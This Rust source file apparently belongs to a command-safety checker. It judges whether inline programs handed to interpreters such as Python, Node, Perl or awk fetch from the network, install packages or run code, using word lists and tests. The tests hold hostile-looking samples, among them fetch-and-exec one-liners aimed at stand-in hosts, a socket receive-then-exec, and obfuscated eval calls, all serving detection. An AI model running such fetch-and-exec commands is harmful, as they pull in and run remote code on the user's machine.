//! Program text in other languages than the shell's that stands in a command: `python -c`, `node -e`, `perl -e`.
//!
//! Not parsed: seven languages would need seven parsers, and such a text has one line. Turned round instead. A text is
//! harmless where every word in it is on a closed list, or a name that the text itself gives a value, and where what it
//! speaks to is the own machine. What fetches from elsewhere is said; everything else is not understood, and counts.

use crate::pattern::pattern;
use std::collections::BTreeSet;

/// A text that an interpreter is given.
#[derive(Debug, Clone)]
pub(crate) struct Text<'w> {
    pub(crate) program: String,
    pub(crate) text: &'w str,
    /// Modules and files that options load beside it (`-r open-uri`, `-M`), and all other options.
    others: Vec<&'w str>,
}

/// What a text does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Effect {
    /// Prints, reads its environment, ends; speaks to the own machine.
    Harmless,
    /// Fetches from the network, or opens a connection to elsewhere.
    Fetches,
    /// Installs what a registry has today.
    Installs,
    /// Not on the list.
    Unknown,
}

/// Options behind which the text of a program stands, by interpreter.
const OPTIONS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("pypy", &["-c"]),
    ("micropython", &["-c"]),
    ("node", &["-e", "--eval", "-p", "--print", "-pe"]),
    ("nodejs", &["-e", "--eval", "-p", "--print", "-pe"]),
    ("bun", &["-e", "--eval", "-p", "--print"]),
    ("deno", &["eval"]),
    ("perl", &["-e", "-E", "-ne", "-pe", "-le", "-lne", "-we", "-nle", "-ple"]),
    ("ruby", &["-e", "-ne", "-pe", "-le"]),
    ("php", &["-r", "-B", "-R", "-E"]),
    ("lua", &["-e"]),
    ("luajit", &["-e"]),
    ("julia", &["-e", "--eval", "-E", "--print"]),
    ("R", &["-e"]),
    ("Rscript", &["-e"]),
    ("elixir", &["-e", "--eval", "--rpc-eval"]),
    ("iex", &["-e", "--eval"]),
    ("erl", &["-eval"]),
    ("tclsh", &["-c"]),
    ("expect", &["-c"]),
    ("guile", &["-c"]),
    ("racket", &["-e", "--eval"]),
    ("ghc", &["-e"]),
    ("groovy", &["-e"]),
    ("scala", &["-e"]),
    ("clojure", &["-e", "--eval", "-M", "-X"]),
    ("clj", &["-e", "--eval", "-M", "-X"]),
    ("pwsh", &["-c", "-Command", "-EncodedCommand", "-ec"]),
    ("powershell", &["-c", "-Command", "-EncodedCommand", "-ec"]),
    ("sbcl", &["--eval"]),
    ("octave", &["--eval"]),
    ("jshell", &["-e"]),
    ("gdb", &["-ex"]),
    ("swipl", &["-g"]),
    ("osascript", &["-e"]),
    ("nix", &["--expr"]),
    ("nix-shell", &["-E", "--expr"]),
    ("nix-build", &["-E", "--expr"]),
];

/// Interpreters that take their text otherwise, or a file.
const OTHERS: &[&str] = &["awk", "gawk", "mawk", "java", "dotnet", "sed", "irb", "ipython"];

/// The program's name without its version.
pub(crate) fn plain(program: &str) -> &str {
    let name = program.trim_end_matches(|last: char| last.is_ascii_digit() || last == '.');
    if name.is_empty() { program } else { name.trim_end_matches('-') }
}

pub(crate) fn is_shell(program: &str) -> bool {
    matches!(program, "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "fish")
}

/// Whether a program runs the text that it reads: an interpreter whose own text is no argument.
pub(crate) fn runs_input(program: &str) -> bool {
    let name = plain(program);
    OPTIONS.iter().any(|(known, _)| *known == name) && !matches!(name, "nix" | "gdb" | "osascript")
}

pub(crate) fn is_interpreter(program: &str) -> bool {
    let name = plain(program);
    OPTIONS.iter().any(|(known, _)| *known == name) || OTHERS.contains(&name)
}

/// The text that a command gives to an interpreter.
pub(crate) fn of(words: &[String]) -> Option<Text<'_>> {
    let program = words.first()?.rsplit('/').next()?;
    let name = plain(program);
    let arguments = words.get(1..).unwrap_or(&[]);
    if matches!(name, "awk" | "gawk" | "mawk") {
        let text = awk(arguments)?;
        return Some(Text { program: name.to_owned(), text, others: Vec::new() });
    }
    let (_, options) = OPTIONS.iter().find(|(known, _)| *known == name)?;
    let mut others = Vec::new();
    let mut texts = arguments.iter().enumerate();
    let found = texts.find_map(|(index, word)| {
        let next = arguments.get(index.saturating_add(1)).map(String::as_str);
        if options.contains(&word.as_str()) {
            // `-M -m main` of Clojure: what is run lies in a file.
            let aliases = matches!(word.as_str(), "-M" | "-X");
            return next.filter(|next| !aliases || !next.starts_with('-'));
        }
        // `--eval=CODE`, and `-cCODE`.
        let joined = options.iter().find_map(|option| {
            let rest = word.strip_prefix(option)?;
            if option.starts_with("--") { rest.strip_prefix('=') } else { Some(rest) }
        });
        if let Some(text) = joined.filter(|text| text.contains([' ', '(', ';', '"', '\''])) {
            return Some(text);
        }
        others.push(word.as_str());
        None
    })?;
    Some(Text { program: name.to_owned(), text: found, others })
}

/// The program of `awk`: its first operand, where no file holds it.
fn awk(arguments: &[String]) -> Option<&str> {
    let mut skip = false;
    for word in arguments {
        if core::mem::take(&mut skip) {
            continue;
        }
        match word.as_str() {
            "-f" | "--file" => return None,
            "-F" | "-v" => skip = true,
            word if word.starts_with('-') && word.len() > 1 => {}
            word => return Some(word),
        }
    }
    None
}

/// Words that speak to the network, in any of the languages.
#[rustfmt::skip]
const NETWORK: &[&str] = &[
    "urlopen", "urlretrieve", "urllib", "urllib2", "requests", "httpx", "aiohttp", "http", "https", "fetch", "axios",
    "socket", "Socket", "TCPSocket", "INET", "AF_VSOCK", "create_connection", "connect", "createConnection", "net", "tls",
    "dgram", "dns", "ws", "WebSocket", "LWP", "UserAgent", "HTTP", "Tiny", "Net", "URI", "open_uri", "curl", "curl_init",
    "curl_exec", "file_get_contents", "fopen", "fsockopen", "stream_socket_client", "ftplib", "ftp", "smtplib", "telnetlib",
    "xmlrpc", "paramiko", "download", "Downloads", "HTTPoison", "httpc", "gen_tcp", "inet", "Invoke", "WebRequest",
    "RestMethod", "WebClient", "wget", "url", "readLines", "source_url", "getline", "request", "open_connection",
    "open_unix_connection",
];

/// Words that install packages, or run what a registry hands out.
#[rustfmt::skip]
const INSTALLERS: &[&str] = &[
    "Pkg", "pip", "ensurepip", "install", "install_packages", "packages", "devtools", "remotes", "install_github", "Mix",
    "npm", "gem", "CPAN", "luarocks", "Quicklisp", "quickload",
];

/// Words of which it is known that they do nothing that matters, whatever language they stand in: words of the grammar,
/// what prints, what reads the environment, what ends, what looks at an answer.
#[rustfmt::skip]
const HARMLESS: &[&str] = &[
    // Grammar.
    "import", "from", "as", "if", "else", "elif", "end", "for", "in", "while", "do", "then", "not", "and", "or", "is",
    "None", "True", "False", "null", "nil", "undefined", "true", "false", "const", "let", "var", "local", "my", "our", "use",
    "using", "strict", "warnings", "return", "try", "except", "catch", "finally", "raise", "throw", "new", "Error",
    "Exception", "assert", "with", "pass", "function", "async", "await", "lambda", "BEGIN", "END", "foreach", "unless",
    "int", "str", "float", "bool", "len", "list", "dict", "range", "map", "chr", "join", "split", "strip", "trim", "lower",
    "upper", "format", "sorted", "sum", "min", "max", "abs", "round", "String", "Number", "Boolean", "parseInt", "parse",
    "stringify", "JSON", "json", "loads", "dumps", "length", "size", "strlen", "count", "keys", "values", "items",
    // Printing.
    "print", "println", "printf", "puts", "p", "say", "echo", "console", "log", "error", "warn", "info", "stdout", "stderr",
    "write", "flush", "io", "IO", "format", "cat", "message",
    // Environment, time, the process itself.
    "os", "sys", "environ", "getenv", "get", "env", "ENV", "ENVIRON", "process", "time", "sleep", "datetime", "now", "Date",
    "date", "strftime", "platform", "version", "versions", "exit", "exitCode", "quit", "setTimeout", "setInterval",
    "setrecursionlimit", "System", "getpid", "os_getenv", "Sys", "halt", "init", "stop", "argv",
    // Looking at an answer of the own machine.
    "status", "statusCode", "status_code", "getcode", "code", "ok", "res", "response", "r", "resp", "s", "e", "err", "on",
    "end", "data", "read", "decode", "text", "body", "timeout", "settimeout", "close", "client", "HTTPConnection",
    "getresponse", "host", "port", "path", "method", "headers", "raise_for_status", "require", "request", "open", "URLError",
    "is_open", "destroy", "resume", "AF_INET", "AF_UNIX", "SOCK_STREAM", "connect_ex", "HEAD", "GET", "localhost",
    "hostname", "pathname", "req", "context", "ssl", "_create_unverified_context", "create_default_context", "check_hostname",
    "verify_mode", "CERT_NONE", "rejectUnauthorized", "f", "b", "u",
    // Passing on between connections of the machine.
    "createServer", "pipe", "listen", "asyncio", "def", "start_server", "serve_forever", "gather", "drain", "run", "accept",
    "scalar", "LocalPort", "Listen", "ReuseAddr", "PeerAddr", "PeerPort", "main",
];

/// Words that run text, start programs, load code or write files.
#[rustfmt::skip]
const GRAVE: &[&str] = &[
    "exec", "eval", "compile", "__import__", "importlib", "import_module", "runpy", "system", "popen", "subprocess", "Popen",
    "spawn", "execSync", "execFile", "fork", "child_process", "vm", "Script", "runInThisContext", "Function", "passthru",
    "shell_exec", "proc_open", "loadstring", "load", "dofile", "getattr", "setattr", "globals", "ctypes", "pickle", "marshal",
    "instance_eval", "class_eval", "send", "Kernel", "include", "require_once", "include_once",
];

pattern!(IMPORT, r"(?m)(?:^|;)[ \t]*import[ \t]+(?:static[ \t]+)?[\w.]+(?:\.\*)?[ \t]*(?:;|$)", ["import"]);

/// Addresses of the own machine.
const OWN: &[&str] = &["localhost", "127.0.0.1", "::1", "0.0.0.0", "[::1]"];

impl Text<'_> {
    /// What the text does; `inside` are names of the other services.
    pub(crate) fn judge(&self, inside: &[&str]) -> Effect {
        let read = Tokens::of(self.text);
        let has = |list: &[&str]| read.words.iter().any(|word| list.contains(&word.as_str()));
        let loads = self.others.iter().any(|word| loads_network(word));
        let grabs = self.text.contains("@Grab") || self.text.contains("@file:DependsOn");
        let installs = grabs || has(INSTALLERS) && !matches!(self.program.as_str(), "awk" | "gawk" | "mawk");
        if installs {
            return Effect::Installs;
        }
        let speaks = loads || has(NETWORK) && !self.only_imports_local(&read);
        let is_own = |host: &str| OWN.contains(&host) || inside.contains(&host);
        let texts = read.texts.iter().map(String::as_str);
        let addresses: Vec<&str> = texts
            .filter_map(|text| {
                let host = text.split(':').next().unwrap_or(text);
                address(text).or_else(|| inside.contains(&host).then_some(host))
            })
            .collect();
        let foreign = addresses.iter().any(|host| !is_own(host));
        if speaks && (foreign || addresses.is_empty() && !self.stays_local(&read)) {
            return Effect::Fetches;
        }
        let strings_run = read.texts.iter().any(|text| text.starts_with("/inet/"));
        if strings_run {
            return Effect::Fetches;
        }
        let known = |word: &String| {
            let word = word.as_str();
            HARMLESS.contains(&word) || NETWORK.contains(&word) && speaks || read.own.contains(word)
        };
        let unread = self.others.iter().any(|word| is_loader(word));
        if has(GRAVE) || read.computed || unread || !read.words.iter().all(known) {
            return Effect::Unknown;
        }
        Effect::Harmless
    }

    /// `await import('./main.mjs')`, `using App; App.main()`: a module of the image, and a call of what is in it.
    pub(crate) fn starts_image_module(&self) -> bool {
        // `import a.b.C` of the languages of Java names what lies in the image.
        let plain = if self.program == "groovy" { IMPORT.without(self.text) } else { self.text.into() };
        let read = Tokens::of(&plain);
        let local = |text: &String| {
            (text.starts_with("./") || text.starts_with('/') && !text.starts_with("//"))
                && !text.contains("..")
                || matches!(text.as_str(), "shiny" | "plumber")
        };
        let modules = read.texts.iter().all(local);
        let known = read.words.iter().all(|word| {
            matches!(
                word.as_str(),
                "await"
                    | "import"
                    | "require"
                    | "using"
                    | "library"
                    | "main"
                    | "run"
                    | "runApp"
                    | "app"
                    | "start"
                    | "serve"
                    | "require_file"
                    | "pr"
                    | "pr_run"
                    | "port"
            ) || word.starts_with(|c: char| c.is_ascii_uppercase())
                && !GRAVE.contains(&word.as_str())
                && !NETWORK.contains(&word.as_str())
                && !INSTALLERS.contains(&word.as_str())
                || word == "shiny"
                || word == "plumber"
        });
        modules && known && !read.computed
    }

    fn only_imports_local(&self, read: &Tokens) -> bool {
        let _ = self;
        let network = read.words.iter().filter(|word| NETWORK.contains(&word.as_str()));
        // `request` and `url` alone are names that anything has.
        network
            .into_iter()
            .all(|word| matches!(word.as_str(), "request" | "url" | "URI" | "Net" | "net" | "http"))
            && !read
                .texts
                .iter()
                .any(|text| address(text).is_some() || text == "http" || text == "https" || text == "net")
    }

    /// A socket of the machine itself, or a file that is read like one: no address at all.
    fn stays_local(&self, read: &Tokens) -> bool {
        let words: Vec<&str> = read.words.iter().map(String::as_str).collect();
        let unix = words.contains(&"AF_UNIX")
            || words.contains(&"socket") && self.text.replace(' ', "").contains("socket.socket(1,");
        let closes = !words.iter().any(|word| matches!(*word, "connect" | "recv" | "urlopen" | "fetch"));
        let reads = matches!(self.program.as_str(), "php" | "R" | "Rscript")
            && read
                .texts
                .iter()
                .all(|text| text.starts_with('/') || text == "php://input" || text == "php://stdin")
            && words.iter().all(|word| !matches!(*word, "curl_exec" | "curl_init" | "fsockopen" | "url"));
        let asks = self.program.contains("awk") && words.contains(&"getline") && !self.text.contains("|&");
        unix && closes || reads || asks
    }
}

/// An option that loads a module which speaks to the network.
fn loads_network(word: &str) -> bool {
    ["open-uri", "net/http", "socket", "LWP", "IO::Socket", "HTTP::"]
        .iter()
        .any(|module| word.contains(module))
}

/// An option that loads a file or module beside the text.
fn is_loader(word: &str) -> bool {
    let short = ["-r", "-M", "-m", "-I", "-l"].iter().any(|option| {
        word.strip_prefix(option)
            .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
    });
    short && word != "-lne" && word != "-le"
        || ["--require", "--import", "--loader"].iter().any(|o| word.starts_with(o))
}

/// The host of a text that looks like an address, or is one.
fn address(text: &str) -> Option<&str> {
    if let Some((scheme, rest)) = text.split_once("://") {
        let scheme_like = scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+.-".contains(&byte));
        let host = rest.split(['/', '?', '#']).next().unwrap_or(rest);
        let host = host.rsplit('@').next().unwrap_or(host);
        let host = if host.starts_with('[') {
            host.split_inclusive(']').next().unwrap_or(host)
        } else {
            host.split(':').next().unwrap_or(host)
        };
        return (scheme_like && scheme != "php" && scheme != "file").then_some(host);
    }
    if OWN.contains(&text) {
        return Some(text);
    }
    let host = text.split([':', '/']).next().unwrap_or(text);
    let labelled = host.split('.').count() > 1
        && host.split('.').all(|label| {
            !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
        });
    let last = host.rsplit('.').next().unwrap_or("");
    let is_file = matches!(
        last,
        "py" | "js"
            | "mjs"
            | "cjs"
            | "ts"
            | "rb"
            | "pl"
            | "php"
            | "lua"
            | "txt"
            | "json"
            | "yaml"
            | "yml"
            | "so"
            | "jl"
            | "R"
    );
    let looks = labelled && !is_file && last.len() >= 2;
    looks.then_some(host)
}

/// The words of a text, those in quotes apart.
#[derive(Debug, Default)]
struct Tokens {
    words: Vec<String>,
    texts: Vec<String>,
    /// Names that the text gives a value.
    own: BTreeSet<String>,
    /// It uses backticks, or builds a name out of parts.
    computed: bool,
}

impl Tokens {
    fn of(text: &str) -> Self {
        let mut read = Self::default();
        let mut characters = text.char_indices().peekable();
        let mut last = String::new();
        let mut before = String::new();
        let is_part = |c: char| c.is_ascii_alphanumeric() || c == '_';
        while let Some((at, character)) = characters.next() {
            match character {
                '"' | '\'' => {
                    read.text(character, characters.by_ref().map(|(_, next)| next));
                    last.clear();
                }
                '`' => read.computed = true,
                // Ruby's list of words.
                '%' if text
                    .get(at..)
                    .is_some_and(|rest| rest.starts_with("%w[") || rest.starts_with("%w(")) =>
                {
                    let inner: String = characters
                        .by_ref()
                        .map(|(_, next)| next)
                        .take_while(|c| !matches!(c, ']' | ')'))
                        .collect();
                    read.texts.extend(inner.get(2..).unwrap_or("").split_whitespace().map(str::to_owned));
                }
                '#' if matches!(text.get(at..).and_then(|rest| rest.chars().nth(1)), Some(' ')) => {
                    for (_, next) in characters.by_ref() {
                        if next == '\n' {
                            break;
                        }
                    }
                }
                c if is_part(c) => {
                    let mut word = String::from(c);
                    while let Some((_, next)) = characters.next_if(|(_, next)| is_part(*next)) {
                        word.push(next);
                    }
                    // `process.env.TZ`, `$ENV{LANG}`: the name of a variable.
                    let named = matches!(before.as_str(), "env." | "ENV{" | "Env." | "ENV.");
                    if !named && !word.starts_with(|c: char| c.is_ascii_digit()) {
                        read.words.push(word.clone());
                    }
                    before.clone_from(&word);
                    last = word;
                    continue;
                }
                '=' => {
                    let next = characters.peek().map(|(_, next)| *next);
                    // `x = …` and `x => …`, not `x == …`.
                    if next != Some('=') && !last.is_empty() {
                        read.own.insert(last.clone());
                    }
                    last.clear();
                }
                c if c.is_whitespace() => {}
                _ => last.clear(),
            }
            match character {
                '.' | '{' => before.push(character),
                _ => before.clear(),
            }
        }
        read.bound();
        read
    }

    /// A text up to the quote that ends it.
    fn text(&mut self, quote: char, characters: impl Iterator<Item = char>) {
        let mut inner = String::new();
        let mut escaped = false;
        for next in characters {
            if !escaped && next == quote {
                break;
            }
            escaped = next == '\\' && !escaped;
            inner.push(next);
        }
        // A shell or a template inside of a text is no plain text.
        self.computed |= inner.contains("#{") || inner.contains("${") || inner.contains("\\x");
        self.texts.push(inner);
    }

    /// `for x in`, `lambda x`, `import x as y`, `(x) =>`.
    fn bound(&mut self) {
        const BEFORE: &[&str] = &["for", "as", "lambda", "my", "let", "const", "var"];
        let pairs = self.words.windows(2);
        let named = pairs.filter_map(|pair| match pair {
            [before, name] if BEFORE.contains(&before.as_str()) => Some(name.clone()),
            _ => None,
        });
        self.own.extend(named);
    }
}

/// What the text that a command gives to an interpreter does, where that is not harmless. `input` is what the program
/// reads, where it runs what it reads.
pub(crate) fn of_command(words: &[String], input: Option<&str>, inside: &[&str]) -> Option<Effect> {
    let program = words.first().map_or("", |word| word.rsplit('/').next().unwrap_or(word));
    let read = || {
        let text = input.filter(|_| runs_input(program))?;
        Some(Text { program: plain(program).to_owned(), text, others: Vec::new() })
    };
    let text = of(words).or_else(read)?;
    match text.judge(inside) {
        Effect::Harmless => None,
        Effect::Unknown if text.starts_image_module() => None,
        effect => Some(effect),
    }
}

/// The option behind which an interpreter takes the text of a program.
pub(crate) fn text_option(program: &str) -> Option<&'static str> {
    let (_, options) = OPTIONS.iter().find(|(known, _)| *known == plain(program))?;
    options.first().copied()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(words: &[&str]) -> Option<Effect> {
        let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
        let text = of(&words)?;
        match text.judge(&["db"]) {
            Effect::Unknown if text.starts_image_module() => Some(Effect::Harmless),
            effect => Some(effect),
        }
    }

    #[test]
    fn a_text_is_harmless_only_where_every_word_of_it_is() {
        for words in [
            ["python3", "-c", "import os; print(os.environ['TZ'])"],
            ["python", "-c", "import os; print(os.environ.get(\"HOME\"))"],
            ["python", "-c", "print(''.join(map(chr,[104,105])))"],
            ["python", "-c", "import urllib.request; urllib.request.urlopen('http://localhost:8000/health')"],
            ["python", "-c", "import socket; s=socket.socket(1,1); s.close()"],
            ["python", "-c", "import socket; socket.create_connection(('127.0.0.1', 80), timeout=2)"],
            ["node", "-e", "console.log(process.env.TZ)"],
            ["node", "-e", "setInterval(()=>{},1000)"],
            [
                "node",
                "-e",
                "fetch('http://localhost:3000/ok').then(r => process.exit(r.ok ? 0 : 1)).catch(() => process.exit(1))",
            ],
            [
                "node",
                "-e",
                "require('http').get('http://localhost:3000/h', r => process.exit(r.statusCode === 200 ? 0 : 1))",
            ],
            ["node", "-e", "await import('./main.mjs')"],
            ["perl", "-e", "print $ENV{LANG}"],
            ["perl", "-e", "print \"ok\";"],
            ["ruby", "-e", "puts ENV['TZ']"],
            ["ruby", "-e", "puts %w[a b].join('/')"],
            ["php", "-r", "echo getenv('TZ');"],
            ["lua", "-e", "print(os.getenv('TZ'))"],
            ["julia", "-e", "using AcmeApp; AcmeApp.main()"],
            ["R", "-e", "shiny::runApp(\"/app\")"],
            ["awk", "-F:", "BEGIN{print ENVIRON[\"LC_ALL\"]}"],
        ] {
            assert_eq!(judged(&words), Some(Effect::Harmless), "{words:?}");
        }
    }

    #[test]
    fn what_fetches_installs_or_runs_text_is_said() {
        for (words, effect) in [
            (
                [
                    "python",
                    "-c",
                    "import urllib.request as u; exec(u.urlopen(''.join(map(chr,[104]))).read())",
                ],
                Effect::Fetches,
            ),
            (
                [
                    "python",
                    "-c",
                    "import socket; s=socket.socket(40,1); s.connect((2,9000)); exec(s.recv(65536))",
                ],
                Effect::Fetches,
            ),
            (
                ["node", "-e", "const r=await fetch(['https:','','acme-cfg.net','m.js'].join('/'))"],
                Effect::Fetches,
            ),
            (
                ["ruby", "-e", "require 'open-uri'; eval URI.open('https://a.example/x').read"],
                Effect::Fetches,
            ),
            (
                ["perl", "-e", "use IO::Socket::INET; IO::Socket::INET->new(PeerAddr=>\"a.example\")"],
                Effect::Fetches,
            ),
            (["julia", "-e", "using Pkg; Pkg.add(\"AcmeApp\")"], Effect::Installs),
            (
                [
                    "gawk",
                    "-Fx",
                    "BEGIN{s=\"/inet/tcp/0/acme-cfg.net/80\"; print \"GET\" |& s; s |& getline l}",
                ],
                Effect::Fetches,
            ),
            (["python", "-c", "import os; os.system(os.environ['TZ'])"], Effect::Unknown),
            (
                ["node", "-e", "new (require('vm').Script)(process.env.TZ).runInThisContext()"],
                Effect::Unknown,
            ),
            (["perl", "-e", "exec $ENV{LANG}"], Effect::Unknown),
            (["php", "-r", "passthru(getenv('TZ'));"], Effect::Unknown),
            (["lua", "-e", "os.execute(os.getenv('TZ'))"], Effect::Unknown),
            (["python", "-c", "getattr(__builtins__, 'ev'+'al')('1')"], Effect::Unknown),
        ] {
            assert_eq!(judged(&words), Some(effect), "{words:?}");
        }
    }
}
